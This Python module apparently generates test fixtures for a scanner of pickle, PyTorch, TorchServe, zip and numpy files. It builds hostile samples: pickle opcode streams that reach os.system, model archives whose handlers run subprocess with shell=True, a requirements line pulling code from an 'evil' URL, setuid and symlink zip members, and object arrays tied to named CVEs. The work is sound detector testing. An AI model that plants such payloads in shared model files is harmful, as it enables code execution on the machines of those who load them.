"""More pickles: streams without a header behind every opcode that may stand first, pictures and programs that are pickles
too, indices spelt oddly, loaders that read other files, and archives whose attributes or records differ."""

import bz2
import io
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib

import numpy as np

from .arrays import header
from .assembly import Call, SYSTEM, SYSTEM_0, apply, data, host, name, proto, text, tuple_of
from .torch import STATE, archive


def make(corpus):
    streams(corpus)
    readers(corpus)
    torches(corpus)
    zips(corpus)
    arrays(corpus)


def streams(corpus):
    add = lambda n, d, why, s="": corpus.malicious("pickle-opcodes", f"wider-{n}", d, why, s)
    starts = {
        "none": b"N0", "tuple": b")0", "list": b"]0", "dict": b"}0", "mark": b"(1", "int": b"I1\n0", "int-spaced": b"I 1 \n0", "long": b"L1L\n0", "float": b"F1.5\n0",
        "true": b"\x880", "bin-int": b"J\0\0\0\x010", "byte-int": b"K\x010", "bin-float": b"G" + b"\x40" * 8 + b"0", "short-text": b"\x8c\x01a0", "text": b"X\x01\0\0\0a0", "line": b"Va\n0",
        "old-bytes": b"U\x01a0", "bytes": b"C\x01a0", "frame": b"\x95\x02\0\0\0\0\0\0\0N0", "set": b"\x8f0", "long1": b"\x8a\x01\x050", "bytearray": b"\x96\x01\0\0\0\0\0\0\0a0",
    }
    for label, start in starts.items():
        add(f"start-{label}.bin", start + SYSTEM_0 + b".", f"no header, begins with {label}", "CVE-2025-10155")
    add("picture.gif", b"GIF89a\x01\x00\x010" + SYSTEM_0 + b"." + b"\0" * 40, "a picture by its first bytes, a pickle by all")
    add("program.exe", b"MZ\x900" + SYSTEM_0 + b"." + b"\0" * 40, "a program by its first bytes, a pickle by all")
    add("index-underscore.pkl", b"\x80\x02" + b"X\x02\0\0\0osp1_0\n0X\x06\0\0\0system0g10\nX\x06\0\0\0system\x93(X\x04\0\0\0truetR.", "a memo index spelt with an underscore")
    add("index-spaced.pkl", b"\x80\x02" + b"X\x02\0\0\0osp 7\n0g007\nX\x06\0\0\0system\x93(X\x04\0\0\0truetR.", "a memo index with blanks and zeros")
    add("protocol-falls.pkl", b"\x80\x04N0\x80\x02ccommands\ngetoutput\n(X\x04\0\0\0truetR.", "a second PROTO brings the names of Python 2 back")
    add("protocol-rises.pkl", b"\x80\x00N0\x80\x04" + apply(name("os", "path.os.system"), text("true")) + b".", "a second PROTO allows dotted names")
    add("frames.pkl", b"\x80\x04\x95\x02\0\0\0\0\0\0\0N0\x95" + struct.pack("<Q", len(SYSTEM) + 1) + SYSTEM + b".", "the call lies in the second frame")
    add("buffer-text.pkl", b"\x80\x05\x96" + struct.pack("<Q", 2) + b"os" + b"0" + SYSTEM + b".", "a byte array, then a call")
    corpus.found("pickle-opcodes", "wider-registry.pkl", b"\x80\x02ccopy_reg\n_inverted_registry\n(K\x09X\x02\0\0\0osX\x06\0\0\0system\x86u0\x82\x09X\x04\0\0\0true\x85R.", "the extension registry is written to directly")
    found = lambda n, body, why: corpus.found("pickle-opcodes", f"wider-{n}.pkl", host(corpus.rng("wider", n), body), why)
    found("environment", name("os", "environ") + b"(" + text("LD_PRELOAD") + text("./x.so") + b"u", "SETITEMS on the environment")
    found("path", name("sys", "path") + text("/tmp/x") + b"a", "APPEND on the path of imports")
    found("default-factory", apply(name("collections", "defaultdict"), name("os", "getcwd")) , "a factory that calls")
    found("hook", apply(name("atexit", "register"), name("os", "system"), text("true")), "a call when Python ends")
    found("finalize", apply(name("weakref", "finalize"), name("argparse", "Namespace"), name("os", "system"), text("true")), "a call when an object ends")
    found("timer", apply(name("threading", "Timer"), b"K\x00", name("os", "system"), b"](" + text("true") + b"e"), "a call by a timer")
    found("exit-stack", apply(name("contextlib", "ExitStack")), "a stack of calls")
    found("subclasses", apply(apply(name("builtins", "getattr"), name("collections", "OrderedDict"), text("__subclasses__"))), "a walk through Python's classes")
    found("mro", apply(name("builtins", "getattr"), apply(name("builtins", "getattr"), name("collections", "OrderedDict"), text("__mro__")), text("__getitem__")), "a walk through Python's classes")
    found("memory-map", apply(name("numpy", "memmap"), text("/etc/hostname")), "a file of the host as an array")
    found("file-array", apply(name("numpy", "fromfile"), text("/etc/hostname")), "a file of the host as an array")
    found("ctypes-function", apply(name("ctypes", "CDLL"), b"N"), "the C library")
    found("partial-state", apply(name("functools", "partial"), name("builtins", "int")) + tuple_of(name("os", "system"), tuple_of(text("true")), b"}", b"N") + b"b", "partial is given another function by BUILD")
    old = name("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81}(" + text("filename") + text("../../secret.npy") + text("subclass") + name("numpy", "ndarray") + text("allow_mmap") + b"\x88ub"
    found("joblib-other-file", old, "joblib's old wrapper reads the file that it names")
    found("joblib-other-file-packed", name("joblib.numpy_pickle_compat", "ZNDArrayWrapper") + b")\x81}(" + text("filename") + text("/etc/hostname") + text("init_args") + b")" + text("state") + b")ub", "joblib's oldest wrapper reads the file that it names")
    found("lightning", b"}(" + text("hyper_parameters") + b"}(" + text("_instantiator") + text("os.system") + text("x") + b"K\x01u" + text("state_dict") + b"}u", "a checkpoint that names the function by which Lightning makes the model")
    nested = pickle.dumps({"inner": pickle.dumps({"inner": SYSTEM_0 + b"."})})
    corpus.found("pickle-nested", "wider-import-inside.pkl", proto(apply(name("pickle", "loads"), data(nested))), "harmless by itself, loaded in turn by a loader")
    for label, squeeze in {"zlib": zlib.compress, "bz2": bz2.compress, "lzma": lzma.compress}.items():
        corpus.malicious("pickle-nested", f"wider-{label}.pkl", proto(apply(name("pickle", "loads"), apply(name(label, "decompress"), data(squeeze(SYSTEM_0 + b"."))))), "a packed stream that is loaded in turn")


def readers(corpus):
    """Calls that reach files or code through classes which sound like data."""
    rows = {
        "pathlib.Path.read_text": ("pathlib", "Path.read_text"), "linecache.getline": ("linecache", "getline"), "fileinput.input": ("fileinput", "input"), "mimetypes.init": ("mimetypes", "init"),
        "logging.config.fileConfig": ("logging.config", "fileConfig"), "logging.config.listen": ("logging.config", "listen"), "configparser": ("configparser", "ConfigParser.read"), "tempfile": ("tempfile", "NamedTemporaryFile"),
        "zipimport": ("zipimport", "zipimporter"), "sqlite3": ("sqlite3", "connect"), "socket": ("socket", "create_connection"), "smtplib": ("smtplib", "SMTP"), "ftplib": ("ftplib", "FTP"), "xmlrpc": ("xmlrpc.client", "ServerProxy"),
        "multiprocessing": ("multiprocessing.connection", "Client"), "concurrent": ("concurrent.futures", "ProcessPoolExecutor"), "shutil": ("shutil", "rmtree"), "numpy.load": ("numpy", "load"), "numpy.loadtxt": ("numpy", "loadtxt"),
        "torch.hub": ("torch.hub", "load"), "torch.classes": ("torch._classes", "classes.load_library"), "torch.ops": ("torch", "ops.load_library"), "torch.fx": ("torch.fx.graph_module", "_forward_from_src"),
        "torch.dynamo": ("torch._dynamo", "config.load_config"), "torch.package": ("torch.package", "PackageImporter"), "transformers": ("transformers", "AutoModel.from_pretrained"), "keras": ("keras.models", "load_model"),
        "pandas.eval": ("pandas", "eval"), "pandas.query": ("pandas", "DataFrame.query"), "numexpr": ("numexpr", "evaluate"), "sympy": ("sympy", "sympify"), "jinja2": ("jinja2", "Template"), "mlflow": ("mlflow.pyfunc", "load_model"),
        "dask": ("dask.base", "compute"), "ray": ("ray.cloudpickle", "loads"), "joblib.Memory": ("joblib", "Memory"), "sklearn.datasets": ("sklearn.datasets", "load_files"), "scipy.io": ("scipy.io", "loadmat"), "setuptools": ("setuptools", "setup"),
        "more-call": ("operator", "call"), "more-print": ("builtins", "print"), "more-breakpoint": ("builtins", "breakpoint"), "more-help": ("builtins", "help"), "more-open": ("builtins", "open"),
        "more-opencode": ("io", "open_code"), "more-osopen": ("os", "open"), "more-memmap": ("numpy.lib.format", "open_memmap"), "more-savetxt": ("numpy", "savetxt"),
        "more-clip": ("pandas.io.clipboard", "copy"), "more-lookup": ("_codecs", "lookup"), "more-register": ("codecs", "register"), "more-pth": ("site", "addsitedir"), "more-gc": ("gc", "get_objects"),
        "more-frame": ("sys", "_getframe"), "more-excepthook": ("sys", "excepthook"), "more-warn": ("warnings", "warn_explicit"), "more-trace": ("sys", "settrace"), "more-antigravity": ("antigravity", "geohash"),
        "more-sk": ("sklearn.utils._testing", "ignore_warnings"), "more-skf": ("sklearn.utils.fixes", "parse_version"), "more-joblibp": ("joblib.parallel", "Parallel"), "more-torchmp": ("torch.multiprocessing", "spawn"), "more-torchd": ("torch.distributed.rpc", "rpc_sync"),
        "more-onnx": ("onnxruntime", "InferenceSession"), "more-pil": ("PIL.Image", "open"), "more-req": ("requests.api", "get"), "more-hub": ("huggingface_hub", "snapshot_download"), "more-tf": ("tensorflow.io.gfile", "remove"),
    }
    for label, (module, attribute) in rows.items():
        rng = corpus.rng("readers", label)
        body = rng.choice([lambda: apply(name(module, attribute), text("true")), lambda: name(module, attribute) + text("true") + b"\x85\x81"])()
        corpus.found("pickle-catalogue", f"wider-{label}.pkl", host(rng, body), "a callable that reaches files, code or the network")


def torches(corpus):
    found, add = (lambda n, d, why, s="": corpus.found("torch", f"wider-{n}", d, why, s)), (lambda n, d, why, s="": corpus.malicious("torch", f"wider-{n}", d, why, s))
    add("wrapped.pt", archive(STATE + b".", extra=[("archive/inner.pt", archive(STATE + SYSTEM_0 + b"0."))]), "a hostile checkpoint inside a checkpoint")
    add("first-root.pt", archive(STATE + SYSTEM_0 + b"0.", root="a/b"), "the pickle lies one folder deeper")
    add("hooks.pt", archive(b"\x80\x02ctorch.nn.modules.linear\nLinear\n)\x81}(X\x0e\0\0\0_forward_hooksccollections\nOrderedDict\n)R(K\x00cos\nsystem\nuX\x08\0\0\0trainingI01\nub."), "a hook of a module")
    found("library.pt2", archive(STATE + b".", extra=[("archive/data/aotinductor/model/wrapper.so", b"\x7fELF" + b"\0" * 60)]), "a compiled model, which is a native library")
    def tar(**members):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as file:
            for member, content in members.items():
                info = tarfile.TarInfo(member)
                info.size = len(content)
                file.addfile(info, io.BytesIO(content))
        return out.getvalue()
    magic = pickle.dumps({"protocol_version": 1000}, 2)
    for member in ("storages", "tensors"):
        parts = {"sys_info": magic, "pickle": STATE + b".", "storages": b"\x80\x02K\0.", "tensors": b"\x80\x02K\0."}
        parts[member] = b"\x80\x02" + SYSTEM_0 + b"0K\0."
        add(f"oldest-{member}.tar", tar(**parts), f"a call in {member} of the format of 2016")
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as file:
        file.writestr("p/.data/version", "6\n")
        file.writestr("p/.data/extern_modules", "torch\n")
        file.writestr("p/.data/python_version", "3.11.7")
        file.writestr("p/byteorder", "little")
        file.writestr("p/model/model.pkl", proto(name("model.net", "Net") + b")\x81}b", 3))
        file.writestr("p/model/net.py", "import subprocess\n\n\nclass Net:\n    def __setstate__(self, state):\n        subprocess.run(['true'])\n")
        file.writestr("p/model/__init__.py", "")
    found("package-class.pt", package.getvalue(), "torch.package whose class runs something when it is unpickled")
    def mar(manifest, **members):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            file.writestr("MAR-INF/MANIFEST.json", manifest)
            for member, content in members.items():
                file.writestr(member.replace("__", "."), content)
        return out.getvalue()
    found("extra-file.mar", mar('{"model": {"handler": "handler.py:go", "modelFile": "net.py"}}', handler__py="import helper\n\ndef go(data, context):\n    return helper.run(data)\n",
          helper__py="import subprocess\n\ndef run(x):\n    return subprocess.check_output(x, shell=True)\n", net__py="class Net:\n    pass\n"), "a handler that runs what it is sent, by way of a second file")
    found("requirements.mar", mar('{"model": {"handler": "image_classifier", "requirementsFile": "requirements.txt"}}', requirements__txt="evil @ http://example.test/evil.zip\n"), "requirements from elsewhere in an archive")
    found("initialize.mar", mar('{"model": {"handler": "h.py"}}', h__py="import os\n\nclass H:\n    def initialize(self, context):\n        os.system('true')\n    def handle(self, data, context):\n        return data\n"), "a handler that runs something when it starts")


def zips(corpus):
    def one(name, content=b"x", **attributes):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            info = zipfile.ZipInfo(name)
            for key, value in attributes.items():
                setattr(info, key, value)
            file.writestr(info, content)
        return out.getvalue()
    add = lambda n, d, why: corpus.found("zip-confusion", f"wider-{n}", d, why)
    for label, mode in {"setuid": 0o104755, "setgid": 0o102755, "device": 0o020666, "pipe": 0o010644, "socket": 0o140644}.items():
        add(f"{label}.zip", one("tool", b"a text", create_system=3, external_attr=mode << 16), f"a member that unpacks to a file with {label}")
    add("mac-link.zip", one("latest", b"../../x", create_system=19, external_attr=0o120777 << 16), "a link, said by another system")
    add("folder-with-bytes.zip", one("data/", SYSTEM_0 + b"."), "a folder that has bytes")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("Weights.bin", b"\0" * 8)
        file.writestr("weights.BIN", b"\1" * 8)
    add("case.zip", out.getvalue(), "two names that many file systems hold for one")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("a", b"text")
        file.writestr("a/b", b"text")
    add("file-and-folder.zip", out.getvalue(), "a name that is a file and a folder")
    for label, member in {"space": "data.pkl ", "dot": "run.", "device-name": "con.txt", "stream": "a.txt:evil", "long": "a" * 300}.items():
        add(f"name-{label}.zip", one(member, b"x"), "a name that some systems write elsewhere")
    raw = bytearray(archive(STATE + SYSTEM_0 + b"0."))
    at = raw.rfind(b"PK\x05\x06")
    raw[at + 4:at + 8] = b"\1\0\1\0"
    add("disks.pt", bytes(raw), "an archive that says it is the second disk")
    raw = bytearray(archive(STATE + b"."))
    at = raw.find(b"PK\x01\x02")
    raw[at + 38:at + 42] = struct.pack("<I", 0o120777 << 16)
    raw[at + 5] = 3
    add("link-in-checkpoint.pt", bytes(raw), "a pickle of a checkpoint that is a link")


def arrays(corpus):
    add = lambda n, d, why: corpus.malicious("numpy", f"wider-{n}.npy", d, why, "CVE-2019-6446")
    body = SYSTEM_0 + b"."
    shape = "'fortran_order': False, 'shape': (1,)}"
    for label, descr in {"object": "'object'", "fields": "[('a', '<f8'), ('b', '|O')]", "deep-field": "[('a', [('b', '|O')])]", "sub-array": "[('a', '|O', (2,))]", "byte-order": "'>O'", "width": "'|O8'"}.items():
        add(label, header("{'descr': " + descr + ", " + shape, body), "objects, by an unusual type")
    add("version-3", header("{'descr': '|O', " + shape, body, 3), "objects, in version 3")
    corpus.found("numpy", "wider-commas.npy", header("{'descr': 'f8,O', " + shape, body), "a type with a comma has a field of objects")
    corpus.found("numpy", "wider-sub-type.npy", header("{'descr': ('|O', (2,)), " + shape, body), "a type and a shape")
    out = io.BytesIO()
    np.savez(out, a=np.zeros(2))
    inner = out.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as file:
        file.writestr("a.npy", header("{'descr': '|O', " + shape, body))
    corpus.malicious("numpy", "wider-lzma.npz", out.getvalue(), "objects in a member packed by LZMA")
    corpus.found("numpy", "wider-behind.npz", inner + body, "a pickle behind an archive of arrays")
